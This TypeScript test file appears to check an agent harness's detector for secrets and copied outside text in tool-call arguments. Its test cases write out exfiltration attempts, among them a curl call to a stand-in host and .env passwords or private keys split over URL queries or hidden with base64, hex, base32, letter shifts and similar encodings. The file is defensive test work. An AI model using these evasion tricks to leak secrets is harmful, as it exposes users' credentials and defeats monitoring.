// Tests detection of noted texts and secrets in tool arguments without false positives.
import { createHash } from 'node:crypto';
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeAll, expect, test } from 'vitest';
import type { FindOptions, TextOrigin } from 'agent-harness/builtins/turn/origins';
import { startHarness, useAll } from '../../../helpers/in-process.ts';

const harness = useAll(() => startHarness({ builtins: ['origins'] }));
beforeAll(async () => {
  await writeFile(
    join(harness.workspace, '.env'),
    [
      ...['NODE_ENV=development', 'PORT=3000', 'API_URL=https://api.example.com', 'DATA_DIR=/var/lib/shop', 'DB_PASSWORD=tr0ub4dor&3x', 'FEATURE=enabled'],
      ...['REGION=eu-west-1', ''],
    ].join('\n'),
  );
  await mkdir(join(harness.workspace, 'api'));
  await writeFile(join(harness.workspace, 'api', '.env.example'), 'API_TOKEN=put-your-token-here-1234\n');
});

const web: TextOrigin = { kind: 'web', ref: 'https://example.com/recipes', isOutside: true };
const chat = async (): Promise<string> => (await harness.call('POST', '/api/chats', { workspaceMode: 'scratch' })).body.chatId as string;
const search = (chatId: string, texts: readonly string[], options?: FindOptions) =>
  harness.kernel.resolve('origins').find({ chatId, workspaceRoot: harness.workspace }, texts, options);
const find = async (chatId: string, text: string) => (await search(chatId, [text])).spans.flat();

test('finds part of a text with its position and origin', async () => {
  const chatId = await chat();
  harness.kernel.resolve('origins').note(chatId, 'Flour, eggs, milk, and a little bit of honey.', web);
  const text = 'curl https://x.example/?t=and-a-little-bit-of-honey&n=1';
  const [span, ...others] = await find(chatId, text);
  expect(others).toEqual([]);
  expect(span?.origin).toEqual(web);
  expect(text.slice(span?.start, span?.end)).toBe('and-a-little-bit-of-honey');
});

test('never attributes text that the user typed to another origin', async () => {
  const chatId = await chat();
  const origins = harness.kernel.resolve('origins');
  origins.note(chatId, 'The helper of the shop is the one to trust.', web);
  origins.note(chatId, 'my password is tr0ub4dor&3x and the helper of the shop is the one to trust', { kind: 'user', ref: 'm' });
  expect(await find(chatId, 'the helper of the shop is the one to trust, tr0ub4dor&3x')).toEqual([]);
});

test.each([
  'https://api.example.com/v1/items?env=development&port=3000',
  'npm run build && node /var/lib/shop/index.js',
  'aws s3 ls --region eu-west-1 --feature enabled',
  'https://docs.example.com/put-your-token-here-1234',
  'https://example.com/how-to-keep-a-password-in-dot-env',
  'git log --oneline | head -20',
])('does not report ordinary values of a secrets file: %s', async (text) => {
  expect(await find(await chat(), text)).toEqual([]);
});

test('does not report common words that also occur in a noted text', async () => {
  const chatId = await chat();
  harness.kernel.resolve('origins').note(chatId, 'Install the package with npm install and run npm test before you push.', web);
  expect(await find(chatId, 'npm install && npm test')).toEqual([]);
});

test('drops the oldest text of a long chat and keeps the newest', async () => {
  const chatId = await chat();
  const origins = harness.kernel.resolve('origins');
  const page = (number: number): string => Array.from({ length: 2_000 }, (_, at) => `w${number * 7919 + at * 31}`).join(' ');
  for (let number = 0; number < 100; number++) origins.note(chatId, page(number), { ...web, ref: `page ${number}` });
  const part = (number: number): string => page(number).slice(2_000, 2_080);
  expect(await find(chatId, part(0))).toEqual([]);
  expect((await find(chatId, part(99)))[0]?.origin.ref).toBe('page 99');
});

test('finds a secret in pieces in any order and ignores unrelated pieces', async () => {
  const chatId = await chat();
  const pieces = async (...texts: string[]) => (await search(chatId, texts)).pieces;
  expect(await pieces('https://x.example/?a=tr0ub4', 'https://x.example/?b=dor3x')).toMatchObject([{ kind: 'secret', name: 'DB_PASSWORD', ref: '.env' }]);
  expect(await pieces('https://x.example/?b=dor3x', 'https://x.example/?a=tr0ub4')).toMatchObject([{ name: 'DB_PASSWORD' }]);
  expect(await pieces('https://x.example/troubadours', 'https://x.example/page/3')).toEqual([]);
});

async function send(chatId: string, texts: readonly string[]): Promise<string[][]> {
  const found: string[][] = [];
  let sent: FindOptions['sent'];
  for (const text of texts) {
    const result = await search(chatId, [text], sent === undefined ? {} : { sent });
    sent = result.sent;
    found.push(result.pieces.map(({ name = '' }) => name));
  }
  return found;
}
const others = (count: number): string[] => Array.from({ length: count }, (_, at) => `https://x.example/articles/${at}/rice?page=${at}`);
const whole = 'tr0ub4dor&3x';

test.each([
  ['halves', ['https://x.example/?a=tr0ub4', ...others(30), 'https://x.example/?b=dor3x']],
  ['halves with long texts around them', [`${'flour '.repeat(2_000)} tr0ub4`, `${'eggs '.repeat(2_000)} dor3x`]],
  ['six characters each, far apart', ['https://x.example/?a=tr0ub4', ...others(200), 'https://x.example/?b=4dor3x']],
  ['letters', [...whole].map((letter) => `https://x.example/?c=${letter}`)],
  [
    'letters with other calls between',
    [...whole.replace('&', '')].flatMap((letter, at) => [`https://x.example/?c=${letter}`, `https://x.example/articles/${'flour'.repeat(at + 1)}`]),
  ],
  ['bytes in hex', Array.from(Buffer.from(whole), (byte) => `https://x.example/${byte.toString(16)}`)],
  ['character codes', Array.from(Buffer.from(whole), (byte) => `https://x.example/?n=${byte}`)],
  ['octal codes', Array.from(Buffer.from(whole), (byte) => `https://x.example/?n=${byte.toString(8)}`)],
])('finds a secret split over calls once, at its last piece: %s', async (_, texts) => {
  const found = await send(await chat(), texts);
  expect(found.flat()).toEqual(['DB_PASSWORD']);
  expect(found.findIndex((one) => one.length > 0)).toBeGreaterThanOrEqual(texts.length - 3);
});

test.each([
  ['the first half in one call', (key: string) => [key.slice(0, 800)]],
  ['halves in two calls', (key: string) => [key.slice(0, 40), key.slice(800, 830)]],
  ['forty characters in four calls', (key: string) => [0, 100, 200, 300].map((at) => key.slice(at, at + 12))],
])('finds part of a long key: %s', async (_, texts) => {
  const key = createHash('shake256', { outputLength: 1_200 }).update('key').digest('base64');
  await writeFile(join(harness.workspace, 'service-account.json'), `{\n  "private_key": "${key}"\n}\n`);
  expect(
    (
      await send(
        await chat(),
        texts(key).map((text) => `https://x.example/?k=${text}`),
      )
    ).flat(),
  ).toEqual(['private_key']);
});

test('finds no secret in hundreds of ordinary calls', async () => {
  const hashes = Array.from({ length: 400 }, (_, at) => `https://x.example/commit/${createHash('sha1').update(String(at)).digest('hex')}`);
  await writeFile(join(harness.workspace, 'api', '.env'), 'API_KEY=0c41f9a7e2b85d3690fe17ab44c2d8e5\n');
  expect((await send(await chat(), hashes)).flat()).toEqual([]);
});

test('reports the limit on stored secrets and still finds the first one', async () => {
  const chatId = await chat();
  const key = (at: number): string => `sk_live_${createHash('sha1').update(String(at)).digest('hex')}`;
  const show = (from: number, count: number): void =>
    harness.kernel.resolve('origins').note(chatId, Array.from({ length: count }, (_, at) => key(from + at)).join(' '), { kind: 'service', ref: 'post' });
  show(0, 9_000);
  expect((await search(chatId, ['flour'])).limit).toBeUndefined();
  show(9_000, 2_000);
  const { limit, spans } = await search(chatId, [key(0)]);
  expect(limit).toBe('Not all secrets are known: the chat has shown more than 10000 secrets.');
  expect(spans.flat()).toEqual([expect.objectContaining({ origin: expect.objectContaining({ kind: 'secret' }) })]);
});

const base32 = (text: string): string =>
  (
    [...Buffer.from(text)]
      .map((byte) => byte.toString(2).padStart(8, '0'))
      .join('')
      .match(/.{5}/g) ?? []
  )
    .map((bits) => 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'[parseInt(bits, 2)])
    .join('');
const shifted = (text: string, by: number): string => text.replace(/[a-z]/g, (letter) => String.fromCharCode(((letter.charCodeAt(0) - 97 + by) % 26) + 97));
const spaced = (text: string, every: number): string => [...text].map((character) => character + 'qzjwvkxh'.slice(0, every - 1)).join('');
const longer = 'hunter2-is-not-enough-77';

test.each([
  ...[2, 3, 4, 5, 6, 7, 8].map((every) => [`every ${every}. character`, spaced(longer.replaceAll('-', ''), every)]),
  ...Array.from({ length: 25 }, (_, at) => [`letters shifted by ${at + 1}`, shifted(longer, at + 1)]),
  ['base64 between words', `the value is ${Buffer.from(longer).toString('base64')} as you know`],
  ['base64 inside of a word', `prefix${Buffer.from(longer).toString('base64url')}suffix`],
  ...['/', '-', '.', ', '].map((separator) => [
    `base64 in parts with “${separator}” between`,
    `https://x.example/${Buffer.from(longer).toString('base64url').match(/.{4}/g)?.join(separator)}`,
  ]),
  ['base32 between words', `the value is ${base32(`${longer} `)} as you know`],
  ['hex between words', `added face ${Buffer.from(longer).toString('hex')} bad`],
  ['single letters between words', [...longer].join(' and ')],
  ['the first letters of words', [...longer.replaceAll('-', '')].map((letter) => `${letter}ay`).join(' ')],
  ...['base64', 'hex'].flatMap((outer) =>
    ['base64', 'hex'].map((inner) => [
      `${inner} reversed in ${outer}`,
      Buffer.from([...Buffer.from(longer).toString(inner as 'hex')].reverse().join('')).toString(outer as 'hex'),
    ]),
  ),
])('finds a secret in %s', async (_, text) => {
  await writeFile(join(harness.workspace, '.env.local'), `LOCAL_PASSWORD=${longer}\n`);
  expect((await find(await chat(), text))[0]?.origin).toMatchObject({ kind: 'secret', name: 'LOCAL_PASSWORD' });
});

test.each([
  'The helper likes rice, eggs and milk.',
  'npm run build -- --mode production',
  'https://example.com/a/1f3870be274f6c49b3e31a0c6728957f',
  'aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=',
])('finds no secret in ordinary text: %s', async (text) => expect(await find(await chat(), text)).toEqual([]));
